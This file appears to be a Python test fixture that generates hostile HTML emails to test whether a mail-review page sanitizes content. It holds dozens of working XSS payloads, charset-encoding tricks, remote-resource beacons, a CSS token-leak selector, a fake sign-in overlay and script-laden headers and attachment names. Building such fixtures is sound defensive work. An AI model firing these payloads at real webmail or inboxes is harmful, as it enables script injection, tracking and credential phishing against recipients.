"""Sixty mails that want to run a script, load something or break the page of whoever reviews them.

`{url}` is a server that counts. Each would set `window.pwned` or ask that server where it succeeds.
"""

import base64
from email.message import EmailMessage
from email.policy import SMTP

BODIES: dict[str, str] = {
    "script": "<script>window.top.pwned=1;fetch('{url}/script')</script>",
    "script_source": "<script src='{url}/script.js'></script>",
    "script_in_svg": "<svg><script>parent.pwned=1;new Image().src='{url}/svg'</script></svg>",
    "script_href_svg": "<svg><script href='{url}/svg.js' /></svg>",
    "svg_onload": "<svg onload=\"top.pwned=1;new Image().src='{url}/onload'\">",
    "svg_animate": "<svg><animate onbegin=\"top.pwned=1;new Image().src='{url}/animate'\" attributeName=x dur=1s>",
    "svg_set_href": "<svg><a><set attributeName=href to=javascript:top.pwned=1 /><text>x</text></a></svg>",
    "svg_use": "<svg><use href='{url}/x.svg#a'/></svg>",
    "svg_image": "<svg><image href='{url}/x.png' width=9 height=9 /></svg>",
    "svg_foreign": "<svg><foreignObject><iframe src='{url}/foreign'></iframe></foreignObject></svg>",
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="top.pwned=1"></style></mglyph></table>',
    "mathml_href": "<math href='javascript:top.pwned=1'><mi>x</mi></math>",
    "mathml_annotation": "<math><annotation-xml encoding='text/html'><script>top.pwned=1</script></annotation-xml>",
    "img_onerror": "<img src=x onerror=\"top.pwned=1;new Image().src='{url}/onerror'\">",
    "img_source": "<img src='{url}/pixel.png'>",
    "img_srcset": "<img srcset='{url}/a.png 1x, {url}/b.png 2x'>",
    "img_lazy": "<img loading=eager src='//{host}/p.png' width=1 height=1>",
    "picture_source": "<picture><source srcset='{url}/s.png'><img src='{url}/t.png'></picture>",
    "input_image": "<input type=image src='{url}/in.png'>",
    "body_background": "<body background='{url}/bg.png'>",
    "table_background": "<table background='{url}/tb.png'><tr><td background='{url}/td.png'>x</table>",
    "style_url": "<p style=\"background:url('{url}/css.png')\">x</p>",
    "style_url_escaped": "<p style=\"background:u\\72 l('{url}/css2.png')\">x</p>",
    "style_image_set": "<p style=\"background-image:image-set('{url}/i.png' 1x)\">x</p>",
    "style_expression": '<p style="width:expression(top.pwned=1);behavior:url({url}/b.htc)">x</p>',
    "style_binding": '<p style="-moz-binding:url({url}/x.xml#a)">x</p>',
    "style_import": "<style>@import '{url}/import.css';</style><p>x",
    "style_font": "<style>@font-face{font-family:f;src:url({url}/f.woff)} p{font-family:f}</style><p>x",
    "style_attribute_leak": "<style>input[name=token][value^=a]{background:url({url}/leak)}</style><input name=token>",
    "style_closing": "<style></style><script>top.pwned=1</script></style>",
    "style_variable": '<p style="--x:url({url}/v.png);background:var(--x)">x</p>',
    "style_fixed_overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Sign in again</div>",
    "style_cursor": '<p style="cursor:url({url}/c.cur),auto;list-style-image:url({url}/l.png)">x</p>',
    "link_stylesheet": "<link rel=stylesheet href='{url}/l.css'>",
    "link_preload": "<link rel=preload as=image href='{url}/p.png'><link rel=prefetch href='{url}/q'>",
    "link_dns": "<link rel=preconnect href='{url}'><link rel=icon href='{url}/i.ico'>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url={url}/refresh'>",
    "meta_policy": '<meta http-equiv=content-security-policy content="script-src *"><script src={url}/m.js></script>',
    "base_href": "<base href='{url}/'><img src=based.png><a href=x>x</a>",
    "form_post": "<form action='{url}/form' method=post><input name=a><button autofocus>go</button></form>",
    "form_formaction": "<form><button formaction='javascript:top.pwned=1' autofocus onfocus='top.pwned=1'>x</button>",
    "form_to_ours": "<form action='/held/x/release' method=post><input name=reason value=x><button>go</button></form>",
    "object": "<object data='{url}/o.swf'><param name=x></object>",
    "object_data": "<object data='data:text/html,<script>top.pwned=1</script>'></object>",
    "embed": "<embed src='{url}/e.svg'>",
    "applet": "<applet code=x codebase='{url}/'></applet>",
    "iframe": "<iframe src='{url}/frame'></iframe>",
    "iframe_srcdoc": "<iframe srcdoc=\"<script>top.pwned=1;fetch('{url}/srcdoc')</script>\"></iframe>",
    "iframe_javascript": '<iframe src="javascript:top.pwned=1"></iframe>',
    "iframe_nested": "<iframe srcdoc=\"<iframe srcdoc='&lt;script&gt;top.pwned=1&lt;/script&gt;'></iframe>\"></iframe>",
    "frameset": "<frameset><frame src='{url}/fs'></frameset>",
    "link_javascript": '<a href="java\tscript:top.pwned=1" id=l autofocus onfocus=top.pwned=1 tabindex=1>x</a>',
    "link_data": "<a href='data:text/html,<script>top.pwned=1</script>' target=_top>x</a>",
    "link_ping": "<a href='#' ping='{url}/ping'>x</a>",
    "video": "<video src='{url}/v.mp4' poster='{url}/v.png' autoplay><track src='{url}/t.vtt' default></video>",
    "audio": "<audio src='{url}/a.mp3' autoplay></audio>",
    "details_toggle": '<details open ontoggle="top.pwned=1"><summary>x</summary>y</details>',
    "marquee": '<marquee onstart="top.pwned=1">x</marquee><video><source onerror=top.pwned=1></video>',
    "noscript_mutation": '<noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>',
    "mutation_table": "<table><td></tr><svg><style><!--</style><img src=x onerror=top.pwned=1>--></table>",
    "mutation_form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1>",
    "mutation_title": '<svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>">',
    "textarea_close": "<textarea></textarea><script>top.pwned=1</script></textarea>",
    "plaintext": "<xmp><script>top.pwned=1</script></xmp><plaintext><script>top.pwned=1</script>",
    "comment_tricks": "<!--><script>top.pwned=1</script>--><!--!><img src=x onerror=top.pwned=1>-->",
    "cdata": "<![CDATA[<script>top.pwned=1</script>]]><svg><![CDATA[><script>top.pwned=1</script>]]></svg>",
    "template": "<template shadowrootmode=open><script>top.pwned=1</script><img src='{url}/shadow'></template>",
    "portal": "<portal src='{url}/portal'></portal><fencedframe src='{url}/ff'></fencedframe>",
    "bidi": "\u202e<b>\u2066</b>\u202e]--</body></html><script>top.pwned=1</script>\u2069",
    "braces": "{{ 7*7 }} {% raw %} ${top.pwned=1} <%= 1 %> {{constructor.constructor('top.pwned=1')()}}",
    "closing_ours": "</iframe></section></main></body></html><script>top.pwned=1</script><h1>Signed out</h1>",
    "null_bytes": "<scr\x00ipt>top.pwned=1</scr\x00ipt><img\x00 src=x onerror=top.pwned=1>",
    "slashes": "<img/src=x/onerror=top.pwned=1><svg/onload=top.pwned=1><script/src='{url}/s.js'></script>",
    "case": "<ScRiPt>top.pwned=1</sCrIpT><IMG SRC=x ONERROR=top.pwned=1>",
    "clobber": "<form id=places><input name=submit></form><a id=top name=document></a><img name=getElementById>",
}
"""HTML bodies by name."""


def utf7(body: str) -> bytes:
    return (
        b'Content-Type: text/html; charset="utf-7"\r\n\r\n'
        b"+ADw-script+AD4-top.pwned+AD0-1+ADw-/script+AD4-" + body.encode() + b"\r\n"
    )


def iso2022(body: str) -> bytes:
    return (
        b'Content-Type: text/html; charset="iso-2022-jp"\r\n\r\n<img alt="\x1b$B" src=x onerror=top.pwned=1>\x1b(B\r\n'
    )


def utf16(body: str) -> bytes:
    return (
        b'Content-Type: text/html; charset="utf-16"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.b64encode("<script>top.pwned=1</script>".encode("utf-16"))
        + b"\r\n"
    )


def nested(body: str) -> bytes:
    return b"Content-Type: text/html\r\n\r\n" + b"<div>" * 400 + b"<img src=x onerror=top.pwned=1>deep\r\n"


RAW = {"utf7": utf7, "iso2022": iso2022, "utf16": utf16, "nested": nested}


def mails(url: str) -> dict[str, bytes]:
    """All of them, by name; the subjects are hostile too."""
    host = url.partition("//")[2]
    made: dict[str, bytes] = {}
    for name, body in BODIES.items():
        text = body.replace("{url}", url).replace("{host}", host)
        message = EmailMessage(SMTP)
        message["From"] = '"<script>top.pwned=1</script>" <kefu@platform.example>'
        message["To"] = "xinger@streamers.example"
        message["Subject"] = f"{name} <img src={url}/subject onerror=top.pwned=1>"
        message.set_content(f"<p>before {name}</p>{text}<p>after {name}</p>", subtype="html", cte="base64")
        picture = b"not a picture"
        message.add_attachment(
            picture, maintype="image", subtype="png", filename=f'"><script>top.pwned=1</script>{name}.png'
        )
        made[name] = message.as_bytes()
    head = b"From: kefu@platform.example\r\nTo: xinger@streamers.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    return made | {name: head + make("") for name, make in RAW.items()}
